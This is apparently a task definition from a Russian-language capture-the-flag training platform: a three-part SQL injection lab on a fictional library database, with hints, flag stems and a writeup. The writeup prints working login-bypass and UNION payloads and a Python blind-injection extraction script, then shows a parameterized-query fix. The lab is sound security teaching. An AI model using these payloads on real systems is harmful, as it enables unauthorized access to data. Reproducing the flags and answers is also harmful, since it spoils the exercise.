import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const sqlInjection: TaskSeed = {
  id: 102,
  title: 'SQL-инъекция: от входа до дампа',
  difficulty: 'medium',
  points: 200,
  important: true,
  status: 'active',
  description: md`
    Городская библиотека хранит карточки читателей в базе SQLite. Запросы к ней программист собирал
    сложением строк, и теперь одна и та же ошибка встречается в кабинете трижды — каждый раз в новых
    условиях. За каждую даётся свой флаг.

    ### Часть 1. Вход

    Форма входа подставляет логин и пароль прямо в запрос:

    \`\`\`sql
    SELECT id, name, role FROM readers
    WHERE login = '$login' AND password = '$password';
    \`\`\`

    Войдите как \`admin\`, не зная пароля. Флаг ждёт на главной странице кабинета.

    ### Часть 2. Поиск

    Поиск по каталогу выводит таблицу из трёх столбцов: автор, название, год. Через неё можно
    прочитать и то, что каталогом не является. Найдите таблицу, которой в интерфейсе нет.

    | Шаг | Вопрос | Что пригодится |
    |---|---|---|
    | 1 | Сколько столбцов в ответе? | \`ORDER BY 1\`, \`ORDER BY 2\`, … |
    | 2 | Какие таблицы есть в базе? | \`sqlite_schema\` |
    | 3 | Какие в них столбцы? | столбец \`sql\` там же |

    ### Часть 3. Проверка билета

    Страница \`/ticket?number=…\` отвечает только «билет действителен» или «билет не найден». Текст
    ошибки скрыт, таблицы не видно. Но и одного бита на запрос достаточно, чтобы прочитать строку: её
    символы можно угадывать по одному.

    ### Правила

    - Не изменяйте и не удаляйте данные: лаборатория только ваша, но привычка пригодится.
    - Журнал запросов доступен по ссылке «Журнал». Смотрите, во что превращается ваш ввод.
    - Готовые сканеры здесь не нужны: они найдут уязвимость, но не научат её видеть.

    Справка: [синтаксис \`UNION\`](https://wiki.flagship.example/sql/union), [слепые
    инъекции](https://wiki.flagship.example/sql/blind).
  `,
  flags: [
    { id: 1021, title: 'Вход администратором', prefix: 'flag', stem: 'quote_breaks_login' },
    { id: 1022, title: 'Секрет из соседней таблицы', prefix: 'flag', stem: 'union_reads_tables' },
    { id: 1023, title: 'Слепая инъекция', prefix: 'flag', stem: 'blind_but_patient' },
  ],
  hints: [
    {
      id: 1021,
      cost: 0,
      text: md`
        В первой части начните с одной кавычки в поле логина и прочитайте журнал. Двумя дефисами в SQL
        начинается комментарий: всё, что правее, база не читает.
      `,
    },
    {
      id: 1022,
      cost: 15,
      text: md`
        Во второй части число столбцов в \`UNION SELECT\` должно совпасть с числом столбцов исходного
        запроса. Недостающие заполните значением \`NULL\`.
      `,
    },
    {
      id: 1023,
      cost: 25,
      text: md`
        В третьей части поможет \`substr(строка, позиция, 1)\`. Двоичный поиск по коду символа через
        \`unicode()\` сокращает перебор до семи запросов на символ.
      `,
    },
  ],
  attachments: [],
  writeup: {
    rule: 'after_solve',
    content: md`
      ### Часть 1

      Логин \`admin'--\` закрывает строку и отбрасывает проверку пароля:

      \`\`\`sql
      WHERE login = 'admin'--' AND password = '…'
      \`\`\`

      ### Часть 2

      Столбцов три, поэтому список таблиц читается так:

      \`\`\`sql
      ' UNION SELECT name, sql, NULL FROM sqlite_schema WHERE type = 'table'--
      \`\`\`

      В ответе появится служебная таблица \`staff_notes\` со столбцами \`author\`, \`note\`. Вторым запросом
      прочитайте её.

      ### Часть 3

      Один запрос — один ответ «да» или «нет». Сценарий делит диапазон пополам:

      \`\`\`python
      import requests

      URL = 'http://library.example:8080/ticket'

      def ask(position: int, code: int) -> bool:
          probe = (
              "1' AND unicode(substr((SELECT value FROM vault LIMIT 1),"
              f'{position},1)) > {code}--'
          )
          return 'действителен' in requests.get(URL, params={'number': probe}).text

      text = ''
      while True:
          low, high = 0, 127
          while low < high:
              middle = (low + high) // 2
              if ask(len(text) + 1, middle):
                  low = middle + 1
              else:
                  high = middle
          if low == 0:
              break
          text += chr(low)
      print(text)
      \`\`\`

      ### Как исправить

      Параметризованный запрос отделяет код от данных, и кавычка остаётся просто кавычкой:

      \`\`\`python
      cursor.execute(
          'SELECT id, name, role FROM readers WHERE login = ? AND password_hash = ?',
          (login, password_hash),
      )
      \`\`\`
    `,
  },
  lab: {
    expectedSeconds: 20,
    lifetimeSeconds: 5400,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Личный кабинет библиотеки', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 10],
  gitlabId: 4102,
  hasLogViewer: true,
}
